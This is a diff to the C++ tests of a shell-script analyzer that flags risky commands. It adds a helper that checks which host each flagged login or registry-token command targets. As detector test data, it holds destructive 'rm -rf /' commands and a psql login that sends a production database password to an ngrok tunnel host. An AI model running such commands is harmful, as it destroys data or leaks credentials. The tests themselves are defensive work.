@@ -7,6 +7,26 @@
 
 using namespace shell_test;
 
+namespace {
+
+// Each script of `marked` gives `marker` with that host; none of `unmarked` gives it.
+void check_marker_hosts(const char* marker, std::initializer_list<std::pair<const char*, const char*>> marked,
+                        std::initializer_list<const char*> unmarked) {
+  for (auto [script, host] : marked) {
+    CAPTURE(script);
+    auto facts = analyze(script);
+    const auto* found = marker_of(facts, marker);
+    REQUIRE(found);
+    CHECK(found->host == host);
+  }
+  for (auto script : unmarked) {
+    CAPTURE(script);
+    CHECK_FALSE(has_marker(analyze(script), marker));
+  }
+}
+
+}  // namespace
+
 TEST_CASE("removing the root, home or system directories is a destructive target") {
   for (auto script : {"rm -rf / --no-preserve-root", "rm -rf ~", "rm -rf \"$HOME\"/", "rm -rf $HOME", "rm -r ~/",
                       "cd /tmp && rm -rf /*", "rm -rf /etc", "rm -fr /usr", "sudo rm -rf /var", "rm -rf /home",
@@ -373,23 +393,14 @@ TEST_CASE("TLS checks turned off in cloud, conda, poetry and Go settings, and CA
 }
 
 TEST_CASE("a database client logging in with a secret is marked with the host it logs in to") {
-  const std::pair<const char*, const char*> cases[] = {
-      {"PGPASSWORD=\"$PROD_DB_PASSWORD\" psql -h 0.tcp.eu.ngrok.io -p 14523 -U postgres -c 'select 1'", "0.tcp.eu.ngrok.io"},
-      {"mysql -h db.x.example.com -u root -p\"$MYSQL_ROOT_PASSWORD\" -e 'select 1'", "db.x.example.com"},
-      {"redis-cli -h cache.x.example.com -a \"$REDIS_PASSWORD\" ping", "cache.x.example.com"},
-      {"psql \"postgres://app:$DB_PASSWORD@db.x.example.com:5432/app\" -c 'select 1'", "db.x.example.com"}};
-  for (auto [script, host] : cases) {
-    CAPTURE(script);
-    auto facts = analyze(script);
-    const auto* marker = marker_of(facts, "secret_login");
-    REQUIRE(marker);
-    CHECK(marker->host == host);
-  }
-  for (auto script : {"psql -h db.x.example.com -U app -p 5432 -c 'select 1'", "PGPASSWORD=\"$DB_PASSWORD\" psql -U app -c 'select 1'",
-                      "PGPASSWORD=\"$DB_PASSWORD\" psql -h localhost -U app"}) {
-    CAPTURE(script);
-    CHECK_FALSE(has_marker(analyze(script), "secret_login"));
-  }
+  check_marker_hosts(
+      "secret_login",
+      {{"PGPASSWORD=\"$PROD_DB_PASSWORD\" psql -h 0.tcp.eu.ngrok.io -p 14523 -U postgres -c 'select 1'", "0.tcp.eu.ngrok.io"},
+       {"mysql -h db.x.example.com -u root -p\"$MYSQL_ROOT_PASSWORD\" -e 'select 1'", "db.x.example.com"},
+       {"redis-cli -h cache.x.example.com -a \"$REDIS_PASSWORD\" ping", "cache.x.example.com"},
+       {"psql \"postgres://app:$DB_PASSWORD@db.x.example.com:5432/app\" -c 'select 1'", "db.x.example.com"}},
+      {"psql -h db.x.example.com -U app -p 5432 -c 'select 1'", "PGPASSWORD=\"$DB_PASSWORD\" psql -U app -c 'select 1'",
+       "PGPASSWORD=\"$DB_PASSWORD\" psql -h localhost -U app"});
 }
 
 TEST_CASE("git's store credential helper, which keeps credentials in plain text, is a control turned off") {
@@ -400,23 +411,13 @@ TEST_CASE("git's store credential helper, which keeps credentials in plain text,
 }
 
 TEST_CASE("registry credentials given on an npm command line are marked with the host they are for") {
-  const std::pair<const char*, const char*> cases[] = {
-      {"npm config set //registry.x.example.com/:_authToken=$NPM_TOKEN", "registry.x.example.com"},
-      {"npm config set //registry.x.example.com:8443/:_authToken \"$NPM_TOKEN\"", "registry.x.example.com"},
-      {"pnpm config set //npm.x.example.com/repo/:_password xyz", "npm.x.example.com"},
-      {"npm publish --//registry.x.example.com/:_authToken=\"$NPM_TOKEN\"", "registry.x.example.com"}};
-  for (auto [script, host] : cases) {
-    CAPTURE(script);
-    auto facts = analyze(script);
-    const auto* marker = marker_of(facts, "registry_credentials");
-    REQUIRE(marker);
-    CHECK(marker->host == host);
-  }
-  for (auto script : {"npm config set registry https://registry.npmjs.org/", "npm config get //registry.npmjs.org/:_authToken",
-                      "npm config set //registry.x.example.com/:always-auth true", "npm publish --access public"}) {
-    CAPTURE(script);
-    CHECK_FALSE(has_marker(analyze(script), "registry_credentials"));
-  }
+  check_marker_hosts("registry_credentials",
+                     {{"npm config set //registry.x.example.com/:_authToken=$NPM_TOKEN", "registry.x.example.com"},
+                      {"npm config set //registry.x.example.com:8443/:_authToken \"$NPM_TOKEN\"", "registry.x.example.com"},
+                      {"pnpm config set //npm.x.example.com/repo/:_password xyz", "npm.x.example.com"},
+                      {"npm publish --//registry.x.example.com/:_authToken=\"$NPM_TOKEN\"", "registry.x.example.com"}},
+                     {"npm config set registry https://registry.npmjs.org/", "npm config get //registry.npmjs.org/:_authToken",
+                      "npm config set //registry.x.example.com/:always-auth true", "npm publish --access public"});
 }
 
 TEST_CASE("a secret in the text gh publishes is marked, gh's own secret store is not") {
